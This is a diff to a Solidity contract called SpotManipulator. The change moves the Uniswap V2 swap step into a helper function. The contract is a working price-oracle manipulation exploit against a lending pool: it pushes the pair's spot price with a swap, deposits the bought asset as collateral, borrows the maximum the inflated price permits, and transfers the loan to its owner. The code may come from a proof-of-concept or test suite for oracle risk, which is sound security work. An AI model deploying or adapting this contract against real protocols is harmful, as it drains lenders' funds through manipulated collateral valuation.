@@ -49,30 +49,34 @@ contract SpotManipulator {
         if (msg.sender != owner) revert NotOwner(msg.sender);
         if (baseInRaw == 0) revert ZeroAmount();
         address base = ILendingPool(pool).baseToken();
+        uint256 assetBoughtRaw = _pushSpot(pair, base, asset, baseInRaw);
+
+        // 2. Post the bought asset as collateral.
+        SafeTransferLib.safeApprove(asset, pool, assetBoughtRaw);
+        ILendingPool(pool).depositCollateral(asset, assetBoughtRaw);
+
+        // 3. Borrow what the pool's (possibly manipulated) prices allow, and leave with it.
+        borrowedRaw = borrowBaseRaw == 0 ? _maxBorrow(pool, base) : borrowBaseRaw;
+        ILendingPool(pool).borrow(borrowedRaw);
+        SafeTransferLib.safeTransfer(base, msg.sender, borrowedRaw);
+        emit Attack(pool, pair, baseInRaw, assetBoughtRaw, borrowedRaw);
+    }
+
+    /// @dev 1. Buy `asset` with `baseInRaw` of the caller's base on `pair` (Uniswap V2 getAmountOut on
+    ///      the current reserves, fee 0.3% on the input): the pair's spot price of the asset rises.
+    function _pushSpot(address pair, address base, address asset, uint256 baseInRaw) internal returns (uint256 outRaw) {
         address token0 = IUniswapV2Pair(pair).token0();
         address token1 = IUniswapV2Pair(pair).token1();
         bool baseIs0 = token0 == base;
         if (!(baseIs0 ? token1 == asset : (token1 == base && token0 == asset))) {
             revert PairDoesNotTrade(pair, base, asset);
         }
-
-        // 1. Push the spot: Uniswap V2 getAmountOut on the current reserves (fee 0.3% on the input).
         (uint112 r0, uint112 r1,) = IUniswapV2Pair(pair).getReserves();
         (uint256 reserveBase, uint256 reserveAsset) = baseIs0 ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
         uint256 inWithFee = baseInRaw * 997;
-        uint256 assetOutRaw = (inWithFee * reserveAsset) / (reserveBase * 1000 + inWithFee);
+        outRaw = (inWithFee * reserveAsset) / (reserveBase * 1000 + inWithFee);
         SafeTransferLib.safeTransferFrom(base, msg.sender, pair, baseInRaw);
-        IUniswapV2Pair(pair).swap(baseIs0 ? 0 : assetOutRaw, baseIs0 ? assetOutRaw : 0, address(this), "");
-
-        // 2. Post the bought asset as collateral.
-        SafeTransferLib.safeApprove(asset, pool, assetOutRaw);
-        ILendingPool(pool).depositCollateral(asset, assetOutRaw);
-
-        // 3. Borrow what the pool's (possibly manipulated) prices allow, and leave with it.
-        borrowedRaw = borrowBaseRaw == 0 ? _maxBorrow(pool, base) : borrowBaseRaw;
-        ILendingPool(pool).borrow(borrowedRaw);
-        SafeTransferLib.safeTransfer(base, msg.sender, borrowedRaw);
-        emit Attack(pool, pair, baseInRaw, assetOutRaw, borrowedRaw);
+        IUniswapV2Pair(pair).swap(baseIs0 ? 0 : outRaw, baseIs0 ? outRaw : 0, address(this), "");
     }
 
     /// @dev Headroom under the borrow limit, in base raw units at the oracle's base price, rounded
